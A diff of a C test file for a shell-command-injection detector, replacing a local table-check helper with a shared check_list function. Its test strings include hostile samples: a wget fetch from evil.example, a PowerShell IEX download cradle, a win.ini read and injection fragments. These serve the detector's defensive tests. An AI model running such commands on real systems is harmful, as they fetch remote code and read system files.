@@ -7,10 +7,7 @@
 #include <string.h>
 
 #include "detect/detect.h"
-
-#define N(a) (sizeof(a) / sizeof((a)[0]))
-
-typedef bool (*detect_fn)(const uint8_t *, size_t, int, sk_detect_match *);
+#include "lists.h"
 
 /* Unix shell injection that LOW must catch. */
 static const char *const unix_attacks[] = {
@@ -295,52 +292,30 @@ static const char *const win_benign[] = {
     "Hello ^_^ & bye",
 };
 
-static void table(detect_fn fn, const char *const *cases, size_t n, int level, bool want,
-                  const char *what)
-{
-	int bad = 0;
-	for (size_t i = 0; i < n; i++) {
-		sk_detect_match m;
-		memset(&m, 0, sizeof m);
-		const char *s = cases[i];
-		size_t len = strlen(s);
-		bool got = fn((const uint8_t *)s, len, level, &m);
-		if (got != want) {
-			print_error("%s: %s%s%s\n", what, s, got ? " -- " : "",
-			            got ? m.reason : "");
-			bad++;
-		} else if (got && (!m.reason[0] || m.off + m.len > len)) {
-			print_error("%s: bad match for %s\n", what, s);
-			bad++;
-		}
-	}
-	assert_int_equal(bad, 0);
-}
-
 static void unix_attacks_detected(void **state)
 {
 	(void)state;
-	table(sk_detect_command, unix_attacks, N(unix_attacks), 0, true, "missed");
-	table(sk_detect_command, unix_attacks, N(unix_attacks), 1, true, "missed at HIGH");
+	check_list(sk_detect_command, unix_attacks, COUNT(unix_attacks), 0, true);
+	check_list(sk_detect_command, unix_attacks, COUNT(unix_attacks), 1, true);
 }
 
 static void unix_benign_passes(void **state)
 {
 	(void)state;
-	table(sk_detect_command, unix_benign, N(unix_benign), 0, false, "false positive");
+	check_list(sk_detect_command, unix_benign, COUNT(unix_benign), 0, false);
 }
 
 static void win_attacks_detected(void **state)
 {
 	(void)state;
-	table(sk_detect_windows_command, win_attacks, N(win_attacks), 0, true, "missed");
-	table(sk_detect_windows_command, win_attacks, N(win_attacks), 1, true, "missed at HIGH");
+	check_list(sk_detect_windows_command, win_attacks, COUNT(win_attacks), 0, true);
+	check_list(sk_detect_windows_command, win_attacks, COUNT(win_attacks), 1, true);
 }
 
 static void win_benign_passes(void **state)
 {
 	(void)state;
-	table(sk_detect_windows_command, win_benign, N(win_benign), 0, false, "false positive");
+	check_list(sk_detect_windows_command, win_benign, COUNT(win_benign), 0, false);
 }
 
 /* HIGH catches what LOW leaves alone. */
@@ -352,7 +327,7 @@ static void high_catches_more(void **state)
 	    "run `foo` now please, then `make`",
 	    "wget http://evil.example/x.sh",
 	};
-	for (size_t i = 0; i < N(unix_high); i++) {
+	for (size_t i = 0; i < COUNT(unix_high); i++) {
 		const uint8_t *s = (const uint8_t *)unix_high[i];
 		assert_false(sk_detect_command(s, strlen(unix_high[i]), 0, NULL));
 		if (!sk_detect_command(s, strlen(unix_high[i]), 1, NULL))
@@ -360,7 +335,7 @@ static void high_catches_more(void **state)
 	}
 	static const char *const win_high[] = {"Get-Process | Stop-Process",
 	                                       "Set-ExecutionPolicy Unrestricted"};
-	for (size_t i = 0; i < N(win_high); i++) {
+	for (size_t i = 0; i < COUNT(win_high); i++) {
 		const uint8_t *s = (const uint8_t *)win_high[i];
 		assert_false(sk_detect_windows_command(s, strlen(win_high[i]), 0, NULL));
 		if (!sk_detect_windows_command(s, strlen(win_high[i]), 1, NULL))
@@ -424,7 +399,7 @@ static void large_input_is_bounded(void **state)
 	    "c\\a\\t ", "\"$(",       "((", "#",    ";#\n", "%0a",  "^",    "& ",
 	    "%a%",      "%COMSPEC:~", "-",  "iex(", "|",    "::",   "a-b ", "\"&",
 	};
-	for (size_t u = 0; u < N(units); u++) {
+	for (size_t u = 0; u < COUNT(units); u++) {
 		size_t l = strlen(units[u]);
 		for (size_t i = 0; i < sizeof big; i++)
 			big[i] = (uint8_t)units[u][i % l];
@@ -453,8 +428,8 @@ static void found_anywhere(void **state)
 	};
 	static const char *const heads[] = {"", "hello world on the table ", "a=b&c=d ",
 	                                    "a \"quoted\" thing ", "line\n"};
-	for (size_t h = 0; h < N(heads); h++) {
-		for (size_t t = 0; t < N(tails); t++) {
+	for (size_t h = 0; h < COUNT(heads); h++) {
+		for (size_t t = 0; t < COUNT(tails); t++) {
 			size_t n = 0;
 			for (int r = 0; r < 100; r++) {
 				size_t l = strlen(heads[h]);
@@ -474,7 +449,7 @@ static void found_anywhere(void **state)
 	}
 	static const char *const wtails[] = {"IEX (New-Object Net.WebClient).DownloadString('x')",
 	                                     "& type C:\\windows\\win.ini"};
-	for (size_t t = 0; t < N(wtails); t++) {
+	for (size_t t = 0; t < COUNT(wtails); t++) {
 		size_t n = 0;
 		for (int r = 0; r < 200; r++) {
 			memcpy(buf + n, "some text here. ", 16);
